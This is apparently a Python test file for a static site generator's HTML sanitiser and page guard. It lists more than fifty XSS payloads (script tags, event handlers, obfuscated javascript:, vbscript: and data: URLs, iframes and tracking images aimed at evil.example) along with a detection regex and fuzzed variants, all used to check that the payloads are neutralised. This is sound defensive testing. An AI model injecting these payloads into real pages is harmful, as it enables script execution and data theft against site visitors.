"""Hostile input: the render-time sanitiser neutralises it, `loa check` names it, real content passes untouched."""

from __future__ import annotations

import html as html_module
import re
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
import yaml
from conftest import ROOT, MakeSite

from loa.pipeline import check_site
from loa.safety import page_problems, sanitize_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<img src=x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"x.swf\"></object>",
    "<embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=p></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java&#115;cript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x]: javascript:alert(1)\n\n[y][x]",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "<img src=\"//evil.example/t.png\">",
    "<img src=\"https://evil.example/t.png\" alt=\"t\">",
    "[x](#){: onclick=\"alert(1)\" }",
    "Đoạn văn.\n{: onmouseover=\"alert(1)\" }",
    "# Tiêu đề {: onclick=\"alert(1)\" }",
    "[x](https://ok.example){: style=\"background:url(javascript:alert(1))\" }",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<div onpointerenter=\"alert(1)\">x</div>",
    "<!--<script>alert(1)</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<a href=\"https://ok.example\" target=\"_blank\">ngoài</a>",
    "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
]
EXTENSIONS = ["abbr", "attr_list", "md_in_html", "def_list", "tables", "admonition", "footnotes", "toc"]
DANGER = re.compile(r"<\s*(script|iframe|object|embed|form|meta|base|link|style|svg|math|input|textarea)\b"
                    r"|\son[a-z]+\s*=|(?:href|src|action|formaction)\s*=\s*[\"']?\s*(?:javascript|vbscript|data):", re.I)


def test_there_are_at_least_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitiser_neutralises_payload(payload: str) -> None:
    rendered = markdown.markdown(payload, extensions=EXTENSIONS)
    clean = sanitize_html(rendered)
    assert not DANGER.search(clean), clean
    assert page_problems(clean) == [], clean
    assert "evil.example" not in re.sub(r'<a href="[^"]*"', "", clean)  # only plain links may name another host


@pytest.mark.parametrize("payload", PAYLOADS)
def test_check_never_raises_and_flags_script_like_payloads(make_site: MakeSite, payload: str) -> None:
    qa = (ROOT / "content" / "hoi-dap" / "tong-dai-1022-giai-dap-gi.md").read_text(encoding="utf-8")
    front = qa.split("---\n", 2)[1].replace("id: tong-dai-1022-giai-dap-gi", "id: x")
    report = check_site(make_site({"hoi-dap/x.md": f"---\n{front}---\n\n{payload}\n"}, base=None))
    codes = {d.code for d in report.errors}
    if re.search(r"<\s*(script|iframe|object|embed|form|style|meta|base|link|svg|math)\b|\son[a-z]+\s*=|(java|vb)script:"
                 r"|data:", payload, re.I):
        assert codes & {"L213", "L214"}, (payload, codes)


@pytest.mark.parametrize("field", ["title", "reviewed_note"])
def test_html_in_front_matter_is_an_error(make_site: MakeSite, field: str) -> None:
    qa = (ROOT / "content" / "hoi-dap" / "tong-dai-1022-giai-dap-gi.md").read_text(encoding="utf-8")
    front = yaml.safe_load(qa.split("---\n")[1])
    front["id"] = "x"
    front[field] = '<img src=x onerror="alert(1)">'
    body = qa.split("---\n", 2)[2]
    report = check_site(make_site({"hoi-dap/x.md": "---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n" + body}))
    expected = "L213" if field == "title" else "L201"  # an unknown field is refused before its value matters
    assert any(d.code == expected and d.field == field for d in report.errors), report.format()


class _Shape(HTMLParser):
    """The parts of a page a reader relies on: text, links, images, ids."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.items: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        for key in ("href", "src", "id"):
            if a.get(key):
                self.items.append((tag, key, a[key] or ""))

    def handle_data(self, data: str) -> None:
        if data.strip():
            self.items.append(("text", " ".join(data.split())))


def shape(html: str) -> list[tuple[str, ...]]:
    parser = _Shape()
    parser.feed(html)
    return parser.items


def test_real_content_passes_the_sanitiser_unchanged(built: Path) -> None:
    """No false alarms: on every real page the sanitiser keeps every text, link, image and anchor."""
    pages = list((built / "site").rglob("index.html"))
    assert len(pages) > 30
    for page in pages:
        html = page.read_text(encoding="utf-8")
        article = html[html.index("<article"): html.index("</article>")]
        kept = sanitize_html(article, allow_forms=True)
        assert shape(kept) == shape(re.sub(r"<(script|style)\b.*?</\1>", "", article, flags=re.S)), page
        assert page_problems(html) == [], page


class _Texts(HTMLParser):
    """Text of the first <h1>, of <title>, and the description meta, as a browser shows them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.h1 = self.title = self.description = ""
        self._in = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("h1", "title") and not getattr(self, tag):
            self._in = tag
        if tag == "a" and self._in == "h1":
            self._in = "h1-link"  # the permalink "#" is not part of the title
        if tag == "meta" and dict(attrs).get("name") == "description":
            self.description = dict(attrs).get("content") or ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._in == "h1-link":
            self._in = "h1"
        elif tag in ("h1", "title"):
            self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in in ("h1", "title"):
            setattr(self, self._in, getattr(self, self._in) + data)


def test_title_with_markup_characters_renders_once_escaped(make_site: MakeSite) -> None:
    """A title with "<", "&", quotes and Markdown signs shows exactly as written (no "\\<", no "&amp;lt;")."""
    from conftest import QA, small_project

    from loa.build import build_site

    title = 'Số ca < 1.000 & "dưới" > 5 *mỗi* ngày_thì [sao]?'
    qa = QA.replace("title: Vùng xanh là gì?", "title: " + yaml.safe_dump(title, allow_unicode=True).split("\n")[0])
    project = small_project(make_site, "https://tinh.example.vn/", {"hoi-dap/vung-xanh-la-gi.md": qa})
    assert not check_site(project / "content").errors
    build_site(project / "mkdocs.yml", project / "site")
    html = (project / "site" / "hoi-dap" / "vung-xanh-la-gi" / "index.html").read_text(encoding="utf-8")
    texts = _Texts()
    texts.feed(html)
    assert texts.h1.strip() == title
    assert texts.title.startswith(title + " - ")
    assert "\\<" not in html and "&amp;lt;" not in html and "&amp;amp;" not in html
    assert page_problems(html) == []
    assert html_module.unescape(html).count(title) >= 3  # heading, <title>, header


# The page guard's prefilter (loa/guardfilter.py) must never pass a page the parser would flag.
GUARDED = [
    '<p><a href="x" onclick="f()">a</a></p>',
    '<p><a href="x"\nONCLICK=f()>a</a></p>',
    '<p><a/onmouseover=f()>a</a></p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="  JavaScript:alert(1)">a</a>',
    '<a href="javaſcript:alert(1)">a</a>',  # re.IGNORECASE matches "ſ" with "s" (lower-casing does not)
    '<a href="JAVASCRİPT:alert(1)">a</a>',
    '<a href="javascrıpt:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="&Tab;vbscript:x">a</a>',
    '<form action="data:text/html,x"></form>',
    '<img src="https://evil.example/a.png">',
    '<IMG SRC=//evil.example/a.png>',
    '<img alt="a > b" src="//evil.example/a.png">',
    '<img alt="<b>" src="//evil.example/a.png">',
    '<img src="https:/\t/evil.example/a.png">',
    '<img src="&#104;ttps://evil.example/a.png">',
    '<img src="&sol;&sol;evil.example/a.png">',
    '<script src="https://cdn.example/x.js"></script>',
    '<link rel="stylesheet" href="https://cdn.example/x.css">',
    '<link href="//cdn.example/x.js" rel="modulepreload">',
    '<video src="//evil.example/v.mp4"></video>',
    # A ">" in a quoted value before the handler or the reference: the text rule (`_in_text`) must not apply.
    '<p>online</p><a title="a > b" onclick="f()">a</a>',
    "<p>x</p><a title='<b>' onmouseover=f()>a</a>",
    '<p>&#34;x&#34;</p><a title="a>b" href="&#106;avascript:alert(1)">a</a>',
    '<p>a > b</p><a href=&#106;avascript:alert(1)>a</a>',
]


@pytest.mark.parametrize("page", GUARDED)
def test_guard_prefilter_passes_every_problem_to_the_parser(page: str) -> None:
    from loa.guardfilter import may_have_problems

    assert page_problems(page, prefilter=False), page  # the parser flags it...
    assert may_have_problems(page), page  # ...so the prefilter must not skip it


def test_guard_prefilter_skips_text_that_only_looks_like_markup() -> None:
    """"online", "ong" or a "&#34;" in a page's text are no attribute: the filter must not send such a
    page to the parser (an audience handout of hundreds of talking points always held one)."""
    from loa.guardfilter import may_have_problems

    for page in ('<p class="x">Họp trực tuyến online, nuôi ong</p>', '<p>Vấn đề &#34;điểm nóng&#34;</p>',
                 "<li><a href=\"../a/\">43-KH/TU</a>: nhằm ON định</li>"):
        assert not may_have_problems(page) and page_problems(page, prefilter=False) == [], page


def test_guard_prefilter_skips_clean_pages(built: Path) -> None:
    from loa.guardfilter import may_have_problems

    pages = [p.read_text(encoding="utf-8") for p in (built / "site").rglob("index.html")]
    skipped = [p for p in pages if not may_have_problems(p)]
    assert len(skipped) >= 0.9 * len(pages) > 30  # canonical links, relative assets, external <a> links pass
    assert all(page_problems(p, prefilter=False) == [] for p in pages)


def _fragments() -> object:
    """Pages of tags whose names, attributes and values mix what the guard looks for, spelt in every way."""
    from hypothesis import strategies as st

    def pick(*options: str) -> object:
        return st.sampled_from(options)

    value = st.lists(pick("", "//", "/", "/\t/", "&#47;", "&sol;", "&#x2F;", "https:", "javascript:", "&#106;avascript:",
                          "javascript&colon;", "java", "script", "data:", "JaVaſcrİpt:", "DATA&", "da&#116;a:", "vbscript&#58;", "evil.x", " ", "\t",
                          "&Tab;", "&amp;", "x.png", ">", "<b>", "stylesheet", " on", "'", '"', "&#34;"), max_size=4).map("".join)
    name = pick("src", "SRC", "href", "rel", "alt", "onclick", "ONload", "on", "action", "formaction", "data-x", "title")
    attr = st.tuples(pick(" ", "\n", "/", "\t", '"'), name, pick("", "=", " = ", "=="), pick('"', "'", ""), value).map(
        lambda t: f"{t[0]}{t[1]}{t[2]}{t[3]}{t[4]}{t[3]}" if t[2] else f"{t[0]}{t[1]}")
    tag = st.tuples(pick("img", "IMG", "script", "link", "iframe", "a", "form", "video", "source", "p", "imgx", "track"),
                    st.lists(attr, max_size=4), pick(">", "/>", " >", "")).map(lambda t: f"<{t[0]}{''.join(t[1])}{t[2]}")
    # Text the prefilter must tell from a tag ("online", a reference, a quote after a tag's ">").
    text = pick("", "chữ ", "<!-- ", " -->", "<script>", "</script>", "& ", "online ", "a > b ", ' "on ', "'", "&#34;",
                " on", "&#106;", "x>y ", "<b>")
    return st.lists(st.one_of(tag, text), max_size=6).map("".join)


def test_guard_prefilter_agrees_with_the_parser_on_generated_pages() -> None:
    from hypothesis import given, settings

    from loa.guardfilter import may_have_problems

    @settings(max_examples=3000, deadline=None)
    @given(_fragments())
    def check(page: str) -> None:
        assert may_have_problems(page) or page_problems(page, prefilter=False) == [], page

    check()


def test_unsafe_html_hint_answers_as_its_pattern() -> None:
    """`validate._may_be_unsafe` (substring searches) says what `UNSAFE_HINT.search` (re.I) says,
    including for the characters re.I matches with ASCII letters and lower-casing does not."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from loa import validate

    @settings(max_examples=3000, deadline=None)
    @given(st.text(alphabet="<{}scriptdata:SCRIPTDATA ſıİKk xyzđ", max_size=12))
    def check(body: str) -> None:
        assert validate._may_be_unsafe(body) == (validate.UNSAFE_HINT.search(body) is not None), body

    check()
